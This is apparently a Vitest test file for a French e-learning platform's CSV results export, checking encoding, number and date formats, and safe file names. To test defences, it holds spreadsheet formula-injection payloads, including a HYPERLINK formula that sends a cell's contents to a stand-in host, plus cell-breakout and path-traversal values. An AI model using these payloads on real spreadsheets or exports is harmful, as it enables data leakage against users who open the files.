import { describe, expect, it } from 'vitest';
import type { LabMeta } from '../../../labs/schema.ts';
import { csvFileName, resultsCsv } from '../../../server/classroom/results-csv.ts';
import type { ClassResults, LearnerResult } from '../../../server/contract/results.ts';

const LABS = [
  { id: 'un', title: 'Un processus « comme un autre »', chapter: 'introduction', order: 1 },
  { id: 'deux', title: 'Deux; ou "trois"', chapter: 'cgroups', order: 2 },
] as LabMeta[];

/** In the zone of the machine, as the server writes. */
const at = new Date(2026, 10, 26, 14, 5).getTime();

const learner = (pseudonym: string, change: Partial<LearnerResult> = {}): LearnerResult => ({
  id: 'x',
  pseudonym,
  joinedAt: at,
  labs: {},
  chaptersFinished: [],
  quizzes: {},
  certificate: null,
  ...change,
});
const results = (...learners: LearnerResult[]): ClassResults => ({
  class: { id: 'c', name: 'Équipe n°1 : bâtiment' },
  at,
  learners,
});

/** What a reader of RFC 4180 with semicolons makes of it. */
function cells(text: string): string[][] {
  return text
    .slice(1)
    .trimEnd()
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/(?:^|;)(?:"((?:[^"]|"")*)"|([^;]*))/g)].map(
        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
      ),
    );
}

describe('the results for a spreadsheet', () => {
  const success = {
    succeededAt: at,
    passed: 3,
    total: 3,
    attempts: 2,
    tries: 4,
    hints: 1,
    solution: false,
    spent: 1_230_000,
  };
  const text = resultsCsv(
    results(
      learner('apprenante-1', {
        labs: { un: success, deux: { ...success, succeededAt: null, passed: 2, attempts: 1, solution: true } },
        chaptersFinished: ['introduction'],
        quizzes: { introduction: 4, cgroups: 3 },
        certificate: 'ABCD',
      }),
    ),
    LABS,
  );

  it('begin with a byte order mark and end their lines as spreadsheets do', () => {
    expect(text.startsWith('\uFEFF"Pseudonyme";')).toBe(true);
    expect(text.match(/\r\n/g)).toHaveLength(2);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('write dates, halves and counts as French spreadsheets read them', () => {
    const [header = [], row = []] = cells(text);
    expect(Object.fromEntries(header.map((name, index) => [name, row[index]]))).toEqual({
      Pseudonyme: 'apprenante-1',
      Arrivée: '2026-11-26 14:05',
      'Exercices réussis': '1',
      'Part des exercices réussis (sur 2)': '0,5',
      'Temps passé (heures)': '0,68',
      Tentatives: '3',
      'Essais refusés': '8',
      'Indices lus': '2',
      'Solutions montrées': '1',
      'Chapitres lus': '1',
      'Bonnes réponses aux questions': '7',
      Attestation: 'ABCD',
      '1.1 Un processus « comme un autre », part des objectifs': '1',
      '3.2 Deux; ou "trois", part des objectifs': '0,67',
      '1.1 Un processus « comme un autre », réussi le': '2026-11-26 14:05',
      '3.2 Deux; ou "trois", réussi le': '',
      '1.1 Un processus « comme un autre », minutes': '21',
      '3.2 Deux; ou "trois", minutes': '21',
    });
  });

  it.each([
    '=HYPERLINK("http://exemple.invalid?"&A1;"clic")',
    '+33 1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
  ])('never let the pseudonym %j be run as a formula', (pseudonym) => {
    expect(resultsCsv(results(learner(pseudonym)), [])).toContain(`\r\n"'${pseudonym.replaceAll('"', '""')}";`);
  });

  it('keep a pseudonym in its cell, whatever it holds', () => {
    const row = cells(resultsCsv(results(learner('a";=1+1;"b')), []))[1];
    expect(row?.[0]).toBe('a";=1+1;"b');
    expect(row).toHaveLength(12);
  });

  it('are in a file whose name any disk takes', () => {
    expect(csvFileName(results())).toBe('resultats-equipe-n-1-batiment-2026-11-26.csv');
    expect(csvFileName({ class: { id: 'c', name: '../"\r\n' }, at })).toBe('resultats-2026-11-26.csv');
  });
});
